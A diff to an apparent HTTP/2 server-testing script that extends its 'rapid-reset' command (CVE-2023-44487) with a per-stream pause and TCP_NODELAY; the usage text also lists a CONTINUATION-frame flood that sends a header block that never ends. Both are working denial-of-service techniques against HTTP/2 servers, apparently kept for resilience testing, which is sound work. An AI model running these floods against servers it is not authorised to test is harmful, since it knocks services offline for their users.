@@ -10,7 +10,10 @@
                             https://, CA in $CA_FILE), PAUSE seconds apart
   post URL SIZE             one POST of SIZE bytes of JSON-ish filler over h2c, sent while the
                             answer has not come; its status, body and how the stream ended
-  rapid-reset HOST PORT N   N streams opened and reset at once (CVE-2023-44487)
+  rapid-reset HOST PORT N [PAUSE]
+                            N streams opened and reset at once (CVE-2023-44487); with PAUSE
+                            (seconds), each reset is sent that long after its HEADERS, so the
+                            server has accepted the stream by then
   continuation HOST PORT N  one header block that never ends: HEADERS, then up to N
                             CONTINUATION frames without END_HEADERS
 
@@ -265,8 +268,9 @@ def until_closed(sock, conn, deadline):
     return goaway, False
 
 
-def rapid_reset(host, port, n):
+def rapid_reset(host, port, n, pause=0.0):
     sock = socket.create_connection((host, int(port)), timeout=1)
+    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
     conn = client_conn(sock)
     authority = "%s:%s" % (host, port)
     sent, write_failed = 0, False
@@ -278,6 +282,9 @@ def rapid_reset(host, port, n):
                 [(":method", "GET"), (":path", "/"), (":scheme", "http"), (":authority", authority)],
                 end_stream=True,
             )
+            if pause:
+                sock.sendall(conn.data_to_send())
+                time.sleep(pause)
             conn.reset_stream(sid)
             sock.sendall(conn.data_to_send())
             sent += 1
@@ -323,7 +330,7 @@ def main():
     elif cmd == "post":
         post(args[0], int(args[1]))
     elif cmd == "rapid-reset":
-        rapid_reset(args[0], args[1], int(args[2]))
+        rapid_reset(args[0], args[1], int(args[2]), float(args[3]) if len(args) > 3 else 0.0)
     elif cmd == "continuation":
         continuation(args[0], args[1], int(args[2]))
     else:
